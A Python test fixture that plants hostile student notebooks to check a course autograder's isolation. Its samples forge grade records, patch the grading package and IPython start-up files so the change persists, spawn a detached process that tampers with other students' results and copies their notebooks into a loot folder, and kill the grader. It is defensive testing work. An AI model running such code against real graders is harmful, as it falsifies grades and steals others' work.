"""A planted class of notebook 02 for testing and measuring the grader: right, wrong, blank and hostile submissions.

The hostile ones are small notebooks named like 02, one per attack a student
wanting a better grade tried on the first grader (issue 30): forging the
outcomes file or ``evaluate``, leaving a changed package or an IPython start-up
file for later students, a child that outlives its kernel to tamper with other
rows and copy the other notebooks, killing the grader, printing 100 MB, and
replacing ``check`` with a no-op.  :func:`plant` writes them and says what the
grader must make of each.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

from course_utils.config import PROJECT_ROOT

from .cells import source


def _read(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


#: Variables the shipped check cells of 02 read, for the small notebooks (no training).
CONTEXT = "first_dense_params = ...\nmodel = None\ntest_loss, test_accuracy = None, None\n\nclass _T:\n    dataset = None\n\ntest = _T()"
FORGE_FILE = """import json, os
path = os.environ.get("COURSE_EXERCISE_OUTCOMES")
with open(path, "a") as f:
    for key in ("02.1", "02.2"):
        f.write(json.dumps({"key": key, "outcome": "right"}) + "\\n")"""
FORGE_EVALUATE = """from course_utils import exercises
exercises.evaluate = lambda key, *a, **k: exercises.Outcome(exercises.RIGHT, "¡correcto!")"""
PERSIST_PACKAGE = """import course_utils.exercises as m
with open(m.__file__, "a") as f:
    f.write("\\n\\ndef evaluate(key, *answers, **context):\\n    return Outcome(RIGHT, 'ok')\\n")"""
PERSIST_STARTUP = """import os
folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "00-x.py"), "w") as f:
    f.write("from course_utils import exercises\\n"
            "exercises.evaluate = lambda key, *a, **k: exercises.Outcome(exercises.RIGHT, 'ok')\\n")"""
#: A child in a new session that outlives its kernel: tampers with the other rows, rewrites grades.csv and copies
#: every notebook of any folder named on a command line it can read (the grader's) into LOOT.
SURVIVOR = '''import glob, json, os, shutil, subprocess, sys, time
loot = LOOT
code = """
import glob, json, os, shutil, sys, time
loot = sys.argv[1]
end = time.time() + 150
while time.time() < end:
    for d in glob.glob("../*"):
        f = os.path.join(d, "outcomes.jsonl")
        try:
            if os.path.isfile(f):
                open(f, "a").write(json.dumps({"key": "02.1", "outcome": "wrong"}) + "\\\\n")
            elif not os.path.exists(f):
                os.makedirs(f)
        except OSError:
            pass
    for g in glob.glob("../../grades.csv"):
        try:
            open(g, "w").write("student\\\\nhackeado\\\\n")
        except OSError:
            pass
    for cmd in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(cmd, "rb").read().split(b"\\\\0")
        except OSError:
            continue
        for a in args:
            p = a.decode(errors="ignore")
            if os.path.isdir(p):
                for nb in glob.glob(os.path.join(p, "*.ipynb")):
                    try:
                        os.makedirs(loot, exist_ok=True)
                        shutil.copy(nb, loot)
                    except OSError:
                        pass
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", code, loot], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'''


def small(*sources: str, after: str = "") -> dict:
    """A notebook named like 02: code cells ``sources``, the shipped check cells of 02, then ``after`` (a hidden cell)."""
    shipped = _read(PROJECT_ROOT / "notebooks" / "02_mlp.ipynb")
    checks = [
        {**c, "outputs": [], "execution_count": None} for c in shipped["cells"] if "exercises.check(" in source(c)
    ]
    code = [_code(s) for s in sources]
    return {**shipped, "cells": code + checks + ([_code(after)] if after else [])}


def _code(text: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": None}


def plant(folder: Path, loot: Path, copies: int = 1, real: int | None = None) -> dict[str, tuple]:
    """Write the class in ``folder``; return ``{name: (status or statuses, 02.1, 02.2, to review)}``.

    ``copies`` of each hostile or broken notebook, ``real`` (default ``copies``) of each real one (right, wrong, blank).

    ``name`` is the file name without ``_02_mlp.ipynb``; LOOT (where the survivor copies notebooks) is ``loot``.
    """
    right = _read(PROJECT_ROOT / "source" / "02_mlp.ipynb")  # the source: solutions in place
    student = _read(PROJECT_ROOT / "notebooks" / "02_mlp.ipynb")
    answer_1 = next(i for i, c in enumerate(right["cells"]) if "first_dense_params =" in source(c))
    check_2 = next(i for i, c in enumerate(right["cells"]) if 'check("02.2"' in source(c))
    wrong = copy.deepcopy(right)
    wrong["cells"][answer_1]["source"] = "first_dense_params = n_inputs * 256  # sin los sesgos"
    del wrong["cells"][check_2]
    class_ = {
        "correcta": right,
        "incorrecta_sin_comprobacion": wrong,
        "en_blanco": student,
        "bucle_infinito": small(CONTEXT, "import time\nwhile True:\n    time.sleep(0.2)"),
        "nucleo_caido": small(CONTEXT, "import os\nos._exit(1)"),
        "forja_archivo": small(CONTEXT, after=FORGE_FILE),
        "forja_evaluate": small(CONTEXT, FORGE_EVALUATE),
        "persiste_paquete": small(CONTEXT, PERSIST_PACKAGE),
        "persiste_inicio": small(CONTEXT, PERSIST_STARTUP),
        "superviviente": small(CONTEXT, SURVIVOR.replace("LOOT", repr(str(loot)))),
        "mata_padre": small(CONTEXT, "import os\nos.kill(os.getppid(), 9)"),
        "mata_grupo": small(CONTEXT, "import os\nos.killpg(os.getpgid(os.getppid()), 9)"),
        "grita": small(CONTEXT, "print('x' * 100_000_000)"),
        "sin_check": small(CONTEXT, "from course_utils import exercises\nexercises.check = lambda *a, **k: None"),
        # Blank, and last (by name): it runs after what the hostile ones tried to leave behind for later students.
        "zz_victima": small(CONTEXT),
    }
    real_kinds = ("correcta", "incorrecta_sin_comprobacion", "en_blanco")
    count = {name: real if real is not None and name in real_kinds else copies for name in [*class_, "roto"]}
    for name, n in count.items():
        for suffix in _suffixes(n):
            path = folder / f"{name}{suffix}_02_mlp.ipynb"
            path.write_text("{ no es json" if name == "roto" else json.dumps(class_[name], ensure_ascii=False))
    blank = ("ok", "missing", "missing", True)
    expected = {
        "correcta": ("ok", "right", "right", False),
        "incorrecta_sin_comprobacion": ("ok", "wrong", "no_check", True),
        "en_blanco": ("ok", "missing", "missing", False),
        "bucle_infinito": ("timeout", "not_run", "not_run", True),
        "nucleo_caido": ("crashed", "not_run", "not_run", True),
        "roto": ("unreadable", "", "", True),
        "forja_archivo": blank,
        "forja_evaluate": blank,
        "persiste_paquete": blank,
        "persiste_inicio": blank,
        "superviviente": blank,
        "mata_padre": (("ok", "crashed"), None, None, True),
        "mata_grupo": (("ok", "crashed"), None, None, True),
        "grita": ("too_large", "missing", "missing", True),
        "sin_check": ("ok", "no_record", "no_record", True),
        "zz_victima": blank,
    }
    return {name + suffix: want for name, want in expected.items() for suffix in _suffixes(count[name])}


def _suffixes(n: int) -> list[str]:
    return ["", *(str(i) for i in range(2, n + 1))][:n]
